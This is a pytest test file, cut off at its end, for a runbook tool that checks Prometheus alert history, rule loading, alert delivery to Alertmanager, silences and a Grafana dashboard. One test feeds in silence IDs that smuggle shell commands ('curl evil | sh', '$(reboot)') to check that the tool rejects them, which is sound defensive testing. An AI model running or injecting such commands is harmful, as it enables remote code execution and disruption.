"""Questions about alerts, asked of a real Prometheus and a real Alertmanager."""

import json
import sys
import warnings
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pandas as pd
import pytest
from monitoring import Running, alertmanager, free_port, line, prometheus, require, serving
from running import wait_for

from runbook import open_run
from runbook import prometheus as questions
from runbook.connections.prometheus import Result, Series
from runbook.model import Finding, Status
from runbook.prometheus.alert_history import episodes
from runbook.prometheus.alert_record import Episode, merged
from runbook.prometheus.dashboard import dashboard, dashboard_text
from runbook.prometheus.panels import PANELS
from runbook.prometheus.rules import AS_WRITTEN, SHIPPED, all_rules
from runbook.prometheus.rules_loaded import plain
from runbook.target import Target

NOW = datetime.now(UTC).replace(second=0, microsecond=0)
# A day ago: half an hour in which 30% of the requests failed, and a database that came and went.
INCIDENT = (NOW - timedelta(hours=24), NOW - timedelta(hours=23, minutes=30))
FLAPPED = [NOW - timedelta(hours=10) + timedelta(minutes=20 * number) for number in range(5)]
DOWN_MINUTES = 6
GAP = (NOW - timedelta(hours=6), NOW - timedelta(hours=5))


def past() -> str:
    """Return two days of a service, its database and its exporters, once a minute."""
    counters = {"200": 0.0, "500": 0.0}
    texts: dict[str, list[str]] = {}
    moment = NOW - timedelta(hours=48)
    while moment <= NOW:
        fails = INCIDENT[0] <= moment < INCIDENT[1]
        counters["200"] += 70 if fails else 100
        counters["500"] += 30 if fails else 0
        down = any(began <= moment < began + timedelta(minutes=DOWN_MINUTES) for began in FLAPPED)
        samples = {
            "up": [({"job": "shrimp-api", "instance": "a"}, 1), ({"job": "postgres", "instance": "db"}, 1)],
            "pg_up": [({"job": "postgres", "instance": "db"}, 0 if down else 1)],
            "http_requests": [
                ({"job": "shrimp-api", "path": "/documents", "status": status}, value)
                for status, value in counters.items()
            ],
        }
        if not GAP[0] <= moment < GAP[1]:
            for name, values in samples.items():
                suffix = "_total" if name == "http_requests" else ""
                texts.setdefault(name, []).extend(line(f"{name}{suffix}", *one, moment) for one in values)
        moment += timedelta(minutes=1)
    kinds = {"http_requests": "counter"}
    return "\n".join(f"# TYPE {name} {kinds.get(name, 'gauge')}\n" + "\n".join(lines) for name, lines in texts.items())


@pytest.fixture(scope="module")
def remembering(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A Prometheus that remembers two days, scrapes nothing, and has no rules."""
    with prometheus(tmp_path_factory.mktemp("past"), past=past()) as running:
        yield running


def named(*, url: str, manager: str = "", more: str = "") -> str:
    text = f'[prometheus]\nurl = "{url}"\nbackups = true\n'
    return text + (f'[alertmanager]\nurl = "{manager}"\n' if manager else "") + more


def found(findings: Any) -> dict[str, Finding]:
    return {finding.object: finding for finding in findings}


# --- would it have fired?


def test_the_history_tells_a_known_incident_and_what_flapped(remembering: Running, profile: Callable[..., str]) -> None:
    run = open_run("test", needs=["prometheus"], target=profile(named(url=remembering.url)))
    answer = run.ask(questions.alert_history, days=2)
    told = found(answer.findings)
    resolved, database = told["resolved alerts"], told["DatabaseConnectionFailure"]
    assert resolved.status is Status.OK and "HighErrorRate (once, at " in resolved.message
    assert " UTC ± " in resolved.message, "a look in each minute or so is what these times rest on"
    assert answer.frame is not None
    incident = answer.frame[answer.frame["alert"] == "HighErrorRate"].iloc[0]
    # The window of five minutes delays the end, its limit and the wait the beginning; a look is a minute.
    assert abs(incident["began"] - INCIDENT[0]) < timedelta(minutes=6)
    assert abs(incident["ended"] - INCIDENT[1]) < timedelta(minutes=6)
    backup = told["BackupTooOld"]  # of which nothing is known
    assert backup.status is Status.WARNING and backup.message.startswith("would fire now; in the last 2 days ")
    assert database.status is Status.WARNING and "flaps: 4 times it came back within 60 min" in database.message
    flapped = answer.frame[(answer.frame["alert"] == "DatabaseConnectionFailure") & (answer.frame["state"] == "fired")]
    assert len(flapped) == len(FLAPPED) and set(flapped["minutes"].round()) <= {4.0, 5.0}


def test_a_time_without_any_scrape_is_none_in_which_the_service_was_down(
    remembering: Running, profile: Callable[..., str]
) -> None:
    run = open_run("test", needs=["prometheus"], target=profile(named(url=remembering.url)))
    frame = run.ask(questions.alert_history, days=2).frame
    assert frame is not None
    began = frame[(frame["alert"] == "ApiDown") & (frame["state"] == "fired")]["began"]
    assert not any(GAP[0] - timedelta(minutes=10) <= moment <= GAP[1] + timedelta(minutes=10) for moment in began)


def test_an_alert_whose_metric_is_missing_is_unknown_and_never_well(
    remembering: Running, profile: Callable[..., str]
) -> None:
    run = open_run("test", needs=["prometheus"], target=profile(named(url=remembering.url)))
    metrics, history = run.ask(questions.rule_metrics), run.ask(questions.alert_history, days=2)
    queue = found(metrics.findings)["QueueNotDraining"]
    assert queue.status is Status.UNKNOWN
    assert queue.message.startswith('the metrics triage_queue_size{job="shrimp-api"} and triage_oldest_item_age')
    assert queue.message.endswith("do not exist here: this alert cannot fire")
    assert found(metrics.findings)["BackupTooOld"].message.endswith("this alert fires, and tells nothing else")
    assert "HighErrorRate" not in found(metrics.findings)
    (missing,) = [finding for finding in history.findings if "cannot be told of" in finding.message]
    assert missing.next.startswith("have the metric scraped")
    assert missing.status is Status.UNKNOWN and history.verdict is Status.UNKNOWN


def test_what_the_profile_says_not_to_be_there_is_skipped_and_what_it_names_is_not(
    remembering: Running, profile: Callable[..., str]
) -> None:
    run = open_run("test", needs=["prometheus"], target=profile(named(url=remembering.url)))
    told = found(run.ask(questions.rule_metrics).findings)
    assert told["ReplicationLag"].status is told["CertificateExpiresSoon"].status is Status.SKIPPED
    more = '[api]\nurl = "https://127.0.0.1:9"\n[containers]\napi = "shrimp-api"\n'
    run = open_run("test", needs=["prometheus"], target=profile(named(url=remembering.url, more=more)))
    told = found(run.ask(questions.rule_metrics).findings)
    assert told["CertificateExpiresSoon"].status is told["ContainerMemoryNearLimit"].status is Status.UNKNOWN


def test_backups_are_watched_only_where_the_profile_says_that_they_are_reported(
    remembering: Running, profile: Callable[..., str], runbook: Callable[..., Any]
) -> None:
    name = profile(f'[prometheus]\nurl = "{remembering.url}"\n')
    run = open_run("test", needs=["prometheus"], target=name)
    backup = found(run.ask(questions.rule_metrics).findings)["BackupTooOld"]
    assert backup.status is Status.SKIPPED and "date +%s" in backup.next and "backups = true" in backup.next
    written = runbook("alerts", "rules", "--target", name).stdout
    assert "BackupTooOld" not in written and "ReplicationLag" in written
    assert "BackupTooOld" in runbook("alerts", "rules", "--target", profile(named(url=remembering.url))).stdout


@pytest.mark.parametrize(
    ("times", "wait", "expected"),
    [
        ([0, 60, 120, 180, 240], 120, [(120, 240)]),
        ([0, 60], 120, []),
        ([0, 60, 120, 300, 360, 420], 120, [(120, 120), (420, 420)]),
        ([0], 0, [(0, 0)]),
        ([], 60, []),
    ],
    ids=["lasts", "too short for its wait", "a gap begins anew", "one look without a wait", "never"],
)
def test_an_alert_fires_when_its_wait_is_over_and_not_before(
    times: list[float], wait: float, expected: list[tuple[float, float]]
) -> None:
    told = Result("q", "matrix", (Series({"job": "a"}, times, [1.0] * len(times)),))
    scraped = Result("up", "matrix", (Series({}, [float(at) for at in range(0, 600, 60)], [1.0] * 10),))
    made = [
        (episode.began.timestamp(), episode.ended.timestamp())
        for episode in episodes(told, wait, 60, datetime.fromtimestamp(600, UTC), scraped)
    ]
    assert made == expected


def test_a_bound_is_kept_for_how_far_back_it_looks(remembering: Running, profile: Callable[..., str]) -> None:
    from runbook.model import UsageError

    run = open_run("test", needs=["prometheus"], target=profile(named(url=remembering.url)))
    with pytest.raises(UsageError, match="at most 40"):
        run.ask(questions.alert_history, days=4000)


BRIEF = """
groups:
- name: test
  rules:
  - alert: HighErrorRate
    expr: failing == 1
    labels: {severity: critical}
  - alert: ApiDown
    expr: failing == 1
    for: 1h
"""


def test_an_alert_that_resolved_a_moment_ago_is_told_with_the_times_that_prometheus_recorded(
    tmp_path: Path, profile: Callable[..., str]
) -> None:
    require("prometheus")
    failing = 1
    with serving(lambda path, headers: (200, {}, f"failing {failing}\n".encode())) as served:
        jobs = {"shrimp-api": [served.url.removeprefix("http://")]}
        with prometheus(tmp_path / "p", rules=BRIEF, jobs=jobs) as running:
            alerts = f"{running.url}/api/v1/alerts"
            wait_for(lambda: "firing" in httpx.get(alerts, trust_env=False).text)
            began = datetime.now(UTC)
            run = open_run("test", needs=["prometheus"], target=profile(named(url=running.url)))
            wait_for(lambda: "fires now" in found(run.ask(questions.alert_history).findings)["HighErrorRate"].message)
            failing = 0
            wait_for(lambda: "firing" not in httpx.get(alerts, trust_env=False).text)
            ended = datetime.now(UTC)
            run = open_run("test", needs=["prometheus"], target=profile(named(url=running.url)))
            answer = run.ask(questions.alert_history)
    told = found(answer.findings)
    assert "HighErrorRate (once, at " in told["resolved alerts"].message
    assert "as Prometheus recorded" in told["resolved alerts"].message and "±" not in told["resolved alerts"].message
    assert answer.frame is not None
    row = answer.frame[answer.frame["alert"] == "HighErrorRate"].iloc[0]
    assert row["recorded"] and not row["open"] and row["step"] == 1
    assert abs(row["began"] - began) < timedelta(seconds=5) and abs(row["ended"] - ended) < timedelta(seconds=5)
    assert told["pending alerts"].message.startswith("pending without ever firing: ApiDown (once, at ")


def test_what_is_recorded_of_a_time_takes_the_place_of_what_its_expression_gives() -> None:
    def at(began: float, ended: float, *, recorded: bool) -> Episode:
        step = 15.0 if recorded else 180.0
        return Episode("{}", NOW + timedelta(minutes=began), NOW + timedelta(minutes=ended), False, step, recorded)

    coarse, before, real = at(0, 12, recorded=False), at(-90, -80, recorded=False), at(1, 4, recorded=True)
    assert merged([real], [before, coarse]) == [before, real]
    younger = merged([at(60, 70, recorded=True)], [coarse, at(0, 72, recorded=False)])
    assert [(one.began, one.recorded) for one in younger] == [(NOW, False), (NOW, False)]


# --- is it loaded?


def loaded(folder: Path, profile: Callable[..., str], rules: str, more: str = "") -> dict[str, Finding]:
    with prometheus(folder / "p", rules=rules) as running:
        run = open_run("test", needs=["prometheus"], target=profile(named(url=running.url, more=more)))
        wait_for(lambda: httpx.get(f"{running.url}/api/v1/rules", trust_env=False).json()["data"]["groups"])
        return found(run.ask(questions.rules_loaded).findings)


def test_the_shipped_rules_are_told_as_loaded_however_prometheus_writes_them(
    tmp_path: Path, profile: Callable[..., str]
) -> None:
    told = loaded(tmp_path, profile, SHIPPED.read_text())
    assert set(told) == {"alert rules"} and told["alert rules"].status is Status.OK
    assert f"{len(all_rules())} alerts loaded" in told["alert rules"].message


def test_without_any_rule_nobody_is_told_of_anything(remembering: Running, profile: Callable[..., str]) -> None:
    run = open_run("test", needs=["prometheus"], target=profile(named(url=remembering.url)))
    (finding,) = run.ask(questions.rules_loaded).findings
    assert finding.status is Status.CRITICAL and "none of the" in finding.message
    assert "runbook alerts rules --target other" in finding.next
    states = run.ask(questions.alert_states)
    assert states.verdict is Status.UNKNOWN and "has no alert rule" in states.findings[0].message


def test_the_runbooks_own_rules_are_told_with_what_each_gets_wrong(tmp_path: Path, profile: Callable[..., str]) -> None:
    told = loaded(tmp_path, profile, AS_WRITTEN.read_text())
    assert "never at one request in 20 s" in told["HighErrorRate"].message
    assert "one slow pod" in told["HighResponseTime"].message
    assert "up is the exporter" in told["DatabaseConnectionFailure"].message
    assert told["HighErrorRate"].status is told["ApiDown"].status is Status.WARNING
    assert told["ApiDown"].message == "not loaded: it cannot fire here"


def test_other_thresholds_another_wait_and_a_rule_that_fails_are_told(
    tmp_path: Path, profile: Callable[..., str]
) -> None:
    text = SHIPPED.read_text().replace("for: 2m", "for: 20m", 1)
    text = text.replace("expr: vector(1)", "expr: vector(1) * on (a) group_left vector(1) * on () vector(scalar(up))")
    broken = text.replace("severity: none", "severity: page")
    told = loaded(tmp_path, profile, broken, more='[thresholds."host.memory"]\nwarning = 80\n')
    assert told["HighErrorRate"].message == "it waits 1200 s instead of 120 s"
    assert told["HighMemoryUsage"].message.startswith("another expression is loaded: (node_memory_MemTotal_bytes")
    assert told["DeadMansSwitch"].status is Status.WARNING


def test_a_rule_whose_evaluation_fails_is_critical(tmp_path: Path, profile: Callable[..., str]) -> None:
    require("prometheus")
    text = SHIPPED.read_text().replace("expr: vector(1)", 'expr: label_replace(up, "job", "x", "", "") == 1')
    with serving(lambda path, headers: (200, {}, b"a 1\n")) as served:
        jobs = {"one": [served.url.removeprefix("http://")], "two": [served.url.removeprefix("http://")]}
        with prometheus(tmp_path / "p", rules=text, jobs=jobs) as running:
            run = open_run("test", needs=["prometheus"], target=profile(named(url=running.url)))

            def failing() -> bool:
                told = found(run.ask(questions.rules_loaded).findings)
                return "DeadMansSwitch" in told and told["DeadMansSwitch"].status is Status.CRITICAL

            wait_for(failing)


def test_expressions_are_compared_by_what_they_mean_and_not_by_how_they_are_spaced() -> None:
    assert plain('a{x="1",b=~"2"} > 16777216') == plain('a{b=~"2", x="1"}>1.6777216e+07')
    assert plain('rate(a{b="}"}[5m])') == plain('rate( a{b="}"}[5m] )')
    assert plain("a > 1") != plain("a > 10") and plain('a{b="1"}') != plain('a{b="2"}')


# --- what fires, arrives and is silenced


ALWAYS = """
groups:
- name: test
  rules:
  - alert: DeadMansSwitch
    expr: vector(1)
    labels: {severity: none}
  - alert: HighErrorRate
    expr: vector(0.3)
    labels: {severity: critical}
    annotations: {summary: "{{ $value | humanizePercentage }} <script>fail</script>\\n"}
  - alert: Slow
    expr: vector(7)
    for: 1h
    labels: {severity: warning}
"""


@pytest.fixture(scope="module")
def firing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """A Prometheus in which alerts fire, and the Alertmanager that gets them; their addresses."""
    folder = tmp_path_factory.mktemp("firing")
    with alertmanager(folder) as manager:
        more = (
            f'alerting: {{alertmanagers: [{{static_configs: [{{targets: ["{manager.removeprefix("http://")}"]}}]}}]}}'
        )
        with prometheus(folder / "p", rules=ALWAYS, more=more, options=["--rules.alert.resend-delay=1s"]) as running:
            yield running.url, manager


def test_each_alert_is_told_with_its_state_its_severity_and_its_notebook(
    firing: tuple[str, str], profile: Callable[..., str]
) -> None:
    url, _ = firing
    run = open_run("test", needs=["prometheus"], target=profile(named(url=url)))
    wait_for(lambda: len(run.ask(questions.alert_states).findings) == 3)
    told = found(run.ask(questions.alert_states).findings)
    errors, slow, switch = told["HighErrorRate"], told["Slow"], told["DeadMansSwitch"]
    assert errors.status is Status.CRITICAL and errors.message.startswith("firing; its condition holds since 20")
    assert errors.message.endswith("30% <script>fail</script>") and "\n" not in errors.message
    assert errors.next == "runbook run log-analysis --target other" or "high-error-rate" in errors.next
    assert slow.status is Status.WARNING and slow.message.startswith("pending for")
    assert switch.status is Status.OK


FAILING = """
groups:
- name: test
  rules:
  - alert: Broken
    expr: up and on() (up + on() group_left() up) > 9
    labels: {severity: critical}
"""
SWITCH = """  - alert: DeadMansSwitch
    expr: vector(1)
    labels: {severity: none}
"""


@pytest.mark.parametrize("others", [SWITCH, ""], ids=["others do", "no other"])
def test_of_a_rule_whose_evaluation_fails_it_is_unknown_whether_its_alert_fires(
    others: str, tmp_path: Path, profile: Callable[..., str]
) -> None:
    require("prometheus")
    with serving(lambda path, headers: (200, {}, b"a 1\n")) as served:
        jobs = {"one": [served.url.removeprefix("http://")], "two": [served.url.removeprefix("http://")]}
        with prometheus(tmp_path / "p", rules=FAILING + others, jobs=jobs) as running:
            run = open_run("test", needs=["prometheus"], target=profile(named(url=running.url)))
            wait_for(lambda: "err" in httpx.get(f"{running.url}/api/v1/rules", trust_env=False).text)
            answer = run.ask(questions.alert_states)
    told = found(answer.findings)
    unknown = told["rules that are not evaluated"]
    assert unknown.status is Status.UNKNOWN and "Broken (its evaluation fails: found duplicate" in unknown.message
    assert f"of 1 of {2 if others else 1} rule" in unknown.message
    if others:
        assert told["alerts"].message == "none of the others is pending or firing"
        assert told["DeadMansSwitch"].status is Status.OK and answer.verdict is Status.UNKNOWN
    else:
        assert "alerts" not in told


def test_of_a_rule_that_is_stuck_it_is_unknown_whether_its_alert_fires(
    firing: tuple[str, str], profile: Callable[..., str]
) -> None:
    url, _ = firing
    behind = 0.0

    def later(path: str, data: Any) -> None:
        """Have the switch's rule last evaluated some intervals earlier."""
        if path.startswith("/api/v1/rules"):
            rule = data["groups"][0]["rules"][0]
            moment = datetime.fromisoformat(rule["lastEvaluation"]) - timedelta(seconds=behind)
            rule["lastEvaluation"] = moment.isoformat()

    with relaying(url, later) as relayed:
        run = open_run("test", needs=["prometheus"], target=profile(named(url=relayed)))
        wait_for(lambda: found(run.ask(questions.alert_states).findings).keys() >= {"DeadMansSwitch"})
        assert "rules that are not evaluated" not in found(run.ask(questions.alert_states).findings)
        behind = 60.0
        told = found(run.ask(questions.alert_states).findings)
    assert "DeadMansSwitch" not in told, "that it fires was true a minute ago"
    assert "DeadMansSwitch (it was last evaluated 6" in told["rules that are not evaluated"].message
    assert "should be every 1 s" in told["rules that are not evaluated"].message


@contextmanager
def relaying(url: str, change: Callable[[str, Any], None]) -> Iterator[str]:
    """Serve what a Prometheus answers, with a change to its data; yields the address."""

    def answer(path: str, _: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        told = httpx.get(f"{url}{path}", trust_env=False)
        body = told.json()
        change(path, body["data"])
        return told.status_code, {"Content-Type": "application/json"}, json.dumps(body).encode()

    with serving(answer) as served:
        yield served.url


@pytest.mark.parametrize(("seconds", "status"), [(125, Status.UNKNOWN), (125 + 150, Status.CRITICAL)])
def test_the_wait_of_a_rule_is_none_in_which_its_alert_could_have_arrived(
    seconds: float,
    status: Status,
    firing: tuple[str, str],
    profile: Callable[..., str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("runbook.prometheus.alertmanager._PATIENCE", 1.0)

    def waited(path: str, data: Any) -> None:
        """Have all rules wait for two minutes, and their conditions hold since then and a little longer."""
        for rule in data["groups"][0]["rules"] if "groups" in data else []:
            rule["duration"] = 120
        for alert in data.get("alerts", []):
            alert["activeAt"] = (datetime.now(UTC) - timedelta(seconds=seconds)).isoformat()

    with relaying(firing[0], waited) as relayed, alertmanager(tmp_path / "another") as another:
        needs = ["prometheus", "alertmanager"]
        run = open_run("test", needs=needs, target=profile(named(url=relayed, manager=another)))
        wait_for(lambda: "HighErrorRate" in found(run.ask(questions.alerts_arrive).findings))
        told = found(run.ask(questions.alerts_arrive).findings)["HighErrorRate"]
    assert told.status is status, told.message
    if status is Status.UNKNOWN:
        assert told.message.startswith("fires for 0.1 min and has not arrived in Alertmanager yet")


def test_what_fires_arrives_and_what_does_not_is_critical(
    firing: tuple[str, str], profile: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    url, manager = firing
    monkeypatch.setattr("runbook.prometheus.alertmanager._PATIENCE", 1.0)
    needs = ["prometheus", "alertmanager"]
    run = open_run("test", needs=needs, target=profile(named(url=url, manager=manager)))
    wait_for(lambda: run.ask(questions.alerts_arrive).verdict is Status.OK)
    told = found(run.ask(questions.alerts_arrive).findings)
    assert told["DeadMansSwitch"].message.startswith("arrives in Alertmanager (sent by http://")
    assert told["other alerts"].message == "1 other alert that fires arrived: HighErrorRate"
    with alertmanager(tmp_path / "other") as another:
        run = open_run("test", needs=needs, target=profile(named(url=url, manager=another)))
        frame = pd.DataFrame(run.ask(questions.alerts_arrive).frame).assign(minutes=10.0)
        lost = found(questions.alerts_arrive.check(frame))["DeadMansSwitch"]
    assert lost.status is Status.CRITICAL and "did not arrive in the Alertmanager of the profile" in lost.message
    assert manager.removeprefix("http://") in lost.message


def test_an_alertmanager_that_is_not_there_is_unknown_and_said(
    firing: tuple[str, str], profile: Callable[..., str]
) -> None:
    url, _ = firing
    needs = ["prometheus", "alertmanager"]
    run = open_run("test", needs=needs, target=profile(named(url=url)))
    for question in (questions.alerts_arrive, questions.silences):
        (finding,) = run.ask(question).findings
        assert finding.status is Status.UNKNOWN and "has no [alertmanager]" in finding.message
    run = open_run("test", needs=needs, target=profile(named(url=url, manager=f"http://127.0.0.1:{free_port()}")))
    (finding,) = run.ask(questions.silences).findings
    assert finding.status is Status.UNKNOWN and "refuses connections" in finding.message


def test_a_prometheus_without_an_alertmanager_tells_nobody_whatever_another_one_has_sent(
    firing: tuple[str, str], profile: Callable[..., str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _, manager = firing
    for name in ("_PATIENCE", "_DISCOVERY"):
        monkeypatch.setattr(f"runbook.prometheus.alertmanager.{name}", 1.0)
    needs = ["prometheus", "alertmanager"]
    wait_for(lambda: len(httpx.get(f"{manager}/api/v2/alerts", trust_env=False).json()) == 2)
    with prometheus(tmp_path / "alone", rules=ALWAYS) as alone:
        wait_for(lambda: "firing" in httpx.get(f"{alone.url}/api/v1/alerts", trust_env=False).text)
        run = open_run("test", needs=needs, target=profile(named(url=alone.url, manager=manager)))
        (told,) = run.ask(questions.alerts_arrive).findings
        assert told.status is Status.CRITICAL and told.message == (
            "Prometheus sends to no Alertmanager: whatever fires, nobody is told; "
            "now 1 alert fires, 1 of them critical: HighErrorRate"
        )

        def sends(path: str, data: Any) -> None:
            if path.startswith("/api/v1/alertmanagers"):
                data["activeAlertmanagers"] = [{"url": f"{manager}/api/v2/alerts"}]

        with relaying(alone.url, sends) as relayed:
            run = open_run("test", needs=needs, target=profile(named(url=relayed, manager=manager)))
            switch = found(run.ask(questions.alerts_arrive).findings)["DeadMansSwitch"]
    assert switch.status is Status.UNKNOWN and "was sent by another Prometheus (http://" in switch.message


def test_an_alertmanager_that_is_gone_while_an_alert_fires_is_critical(
    firing: tuple[str, str], profile: Callable[..., str]
) -> None:
    manager = f"http://127.0.0.1:{free_port()}"
    run = open_run("test", needs=["prometheus", "alertmanager"], target=profile(named(url=firing[0], manager=manager)))
    wait_for(lambda: "HighErrorRate" in run.ask(questions.alerts_arrive).findings[0].message)
    (told,) = run.ask(questions.alerts_arrive).findings
    assert told.status is Status.CRITICAL and "refuses connections" in told.message
    assert "nobody is notified of what fires; now 1 alert fires, 1 of them critical: HighErrorRate" in told.message
    assert told.next.startswith("bring it back first")


def silence(manager: str, matchers: list[dict[str, Any]], hours: float, comment: str = "a test") -> str:
    now = datetime.now(UTC)
    document = {
        "matchers": matchers,
        "startsAt": now.isoformat(),
        "endsAt": (now + timedelta(hours=hours)).isoformat(),
        "createdBy": "somebody",
        "comment": comment,
    }
    answer = httpx.post(f"{manager}/api/v2/silences", json=document, trust_env=False)
    name: str = answer.raise_for_status().json()["silenceID"]
    return name


def test_a_silence_that_hides_what_fires_and_one_that_hardly_ends_are_told(
    firing: tuple[str, str], profile: Callable[..., str]
) -> None:
    url, manager = firing
    needs = ["prometheus", "alertmanager"]
    run = open_run("test", needs=needs, target=profile(named(url=url, manager=manager)))
    assert run.ask(questions.silences).findings[0].message == "no alert is silenced"
    is_errors = {"name": "alertname", "value": "High.*", "isRegex": True, "isEqual": True}
    made = [
        silence(manager, [is_errors], 1, "deploying"),
        silence(manager, [{"name": "job", "value": "a", "isRegex": False, "isEqual": True}], 24 * 365),
        silence(manager, [{"name": "job", "value": "b", "isRegex": False, "isEqual": True}], 2),
    ]
    try:
        wait_for(lambda: run.ask(questions.silences).verdict is Status.CRITICAL)
        hides, long, short = (found(run.ask(questions.silences).findings)[f"silence {name[:8]}"] for name in made)
        assert hides.message.startswith('hides what fires now: HighErrorRate (alertname=~"High.*"; until ')
        assert hides.status is Status.CRITICAL and "by somebody: deploying" in hides.message
        assert made[0] in hides.next
        assert long.status is Status.WARNING and "365 more days" in long.message
        assert short.status is Status.OK and "it hides nothing now" in short.message
    finally:
        for name in made:
            httpx.delete(f"{manager}/api/v2/silence/{name}", trust_env=False)


def test_of_very_many_the_ones_that_matter_most_are_kept_and_the_others_counted(
    firing: tuple[str, str], profile: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    url, manager = firing
    for module in ("alert_states", "alertmanager"):
        monkeypatch.setattr(sys.modules[f"runbook.prometheus.{module}"], "MOST", 2)
    needs = ["prometheus", "alertmanager"]
    run = open_run("test", needs=needs, target=profile(named(url=url, manager=manager)))
    wait_for(lambda: "alerts beyond 2" in found(run.ask(questions.alert_states).findings))
    told = found(run.ask(questions.alert_states).findings)
    assert told["DeadMansSwitch"].status is Status.OK and told["HighErrorRate"].status is Status.CRITICAL
    assert told["alerts beyond 2"].message == (
        "there are 3 alerts: the 2 that matter most are told, and none of the others is judged"
    )
    is_errors = {"name": "alertname", "value": "HighErrorRate", "isRegex": False, "isEqual": True}
    others = [{"name": "job", "value": value, "isRegex": False, "isEqual": True} for value in "abc"]
    made = [silence(manager, [one], 1) for one in (*others[:2], is_errors, others[2])]
    try:
        wait_for(lambda: run.ask(questions.silences).verdict is Status.CRITICAL)
        hidden = found(run.ask(questions.silences).findings)
        assert set(hidden) == {f"silence {made[2][:8]}", f"silence {made[3][:8]}", "silences beyond 2"}
        assert hidden["silences beyond 2"].status is Status.UNKNOWN
        assert "there are 4 silences" in hidden["silences beyond 2"].message
    finally:
        for name in made:
            httpx.delete(f"{manager}/api/v2/silence/{name}", trust_env=False)


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("6f3a1c1e-0b58-4f0e-9c38-2f6c0d7f7a11", "amtool silence expire 6f3a1c1e-0b58-4f0e-9c38-2f6c0d7f7a11"),
        ("6f3a1c1e-0b58-4f0e-9c38-2f6c0d7f7a11; curl evil | sh", "on Alertmanager's own page"),
        ("$(reboot)", "on Alertmanager's own page"),
    ],
)
def test_a_command_is_given_only_for_an_id_that_is_one(name: str, says: str, profile: Callable[..., str]) -> None:
    ends = (datetime.now(UTC) + timedelta(days=30)).isoformat()
    held = [{"id": name, "status": {"state": "active"}, "matchers": [], "startsAt": ends, "endsAt": ends}]

    def answer(path: str, _: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        told: Any = held if "silences" in path else [] if "alerts" in path else {"versionInfo": {"version": "0.25.0"}}
        return 200, {"Content-Type": "application/json"}, json.dumps(told).encode()

    with serving(answer) as served:
        text = f'[alertmanager]\nurl = "{served.url}"\n'
        (told,) = open_run("test", needs=["alertmanager"], target=profile(text)).ask(questions.silences).findings
    assert told.status is Status.WARNING and told.next == f"end it, when its reason has gone: {says}"


# --- the panels, here and in Grafana


class Thresholds(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    mode: str
    steps: list[dict[str, Any]]


class Defaults(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    unit: str
    color: dict[str, str]
    custom: dict[str, Any]
    thresholds: Thresholds
    min: float | None = None


class FieldConfig(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    defaults: Defaults
    overrides: list[Any]


class Source(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    type: str
    uid: str


class Query(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    ref_id: str
    datasource: Source
    editor_mode: str
    expr: str
    legend_format: str
    range: bool


class Grid(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    h: int
    w: int
    x: int
    y: int


class PanelModel(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    id: int
    type: str
    title: str
    description: str
    datasource: Source
    grid_pos: Grid
    targets: list[Query]
    field_config: FieldConfig
    options: dict[str, dict[str, Any]]


class Variable(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    name: str
    label: str
    type: str
    query: str
    regex: str
    refresh: int
    hide: int
    multi: bool
    include_all: bool
    skip_url_sync: bool
    current: dict[str, Any]
    options: list[Any]


class Dashboard(msgspec.Struct, forbid_unknown_fields=True, rename="camel"):
    """The fields that Grafana documents ("Dashboard JSON model"), as far as the dashboard uses them."""

    uid: str
    title: str
    description: str
    tags: list[str]
    schema_version: int
    version: int
    editable: bool
    graph_tooltip: int
    timezone: str
    refresh: str
    time: dict[str, str]
    links: list[Any]
    annotations: dict[str, list[Any]]
    templating: dict[str, list[Variable]]
    panels: list[PanelModel]


def test_the_dashboard_has_the_documented_fields_of_grafana_and_no_others() -> None:
    made = msgspec.json.decode(dashboard_text(), type=Dashboard)
    assert [panel.title for panel in made.panels] == [panel.title for panel in PANELS]
    assert len({panel.id for panel in made.panels}) == len(made.panels) and len(made.uid) <= 40
    (variable,) = made.templating["list"]
    assert (variable.type, variable.query) == ("datasource", "prometheus")
    for panel in made.panels:
        assert panel.datasource.uid == f"${{{variable.name}}}" and panel.field_config.defaults.unit
        assert panel.grid_pos.x + panel.grid_pos.w <= 24
        steps = panel.field_config.defaults.thresholds.steps
        assert steps[0] == {"color": "green", "value": None} and all(step["value"] for step in steps[1:])
    places = [(panel.grid_pos.x, panel.grid_pos.y) for panel in made.panels]
    assert len(set(places)) == len(places)


def test_the_dashboard_has_the_thresholds_and_jobs_of_a_profile() -> None:
    target = Target.model_validate(
        {
            "name": "other",
            "prometheus": {"url": "http://127.0.0.1:9", "jobs": {"api": "shrimp"}},
            "thresholds": {"prometheus.error_share": {"critical": 3.0}},
        }
    )
    panels = {panel["title"]: panel for panel in dashboard(target)["panels"]}
    steps = panels["Error rate"]["fieldConfig"]["defaults"]["thresholds"]["steps"]
    assert steps[-1] == {"color": "red", "value": 3.0}
    assert all('job="shrimp"' in query["expr"] for panel in panels.values() for query in panel["targets"])


def test_prometheus_understands_every_query_of_the_dashboard_and_every_rule(remembering: Running) -> None:
    queries = [query["expr"] for panel in dashboard()["panels"] for query in panel["targets"]]
    for query in [*queries, *(rule.expr for rule in all_rules())]:
        answer = httpx.get(f"{remembering.url}/api/v1/query", params={"query": query}, trust_env=False).json()
        assert answer["status"] == "success", (query, answer)


def test_a_command_writes_the_rules_and_the_dashboard(
    runbook: Callable[..., Any], profile: Callable[..., str], tmp_path: Path
) -> None:
    name = profile('[prometheus]\nurl = "http://127.0.0.1:9"\njobs = { api = "shrimp" }\n')
    printed = runbook("alerts", "rules")
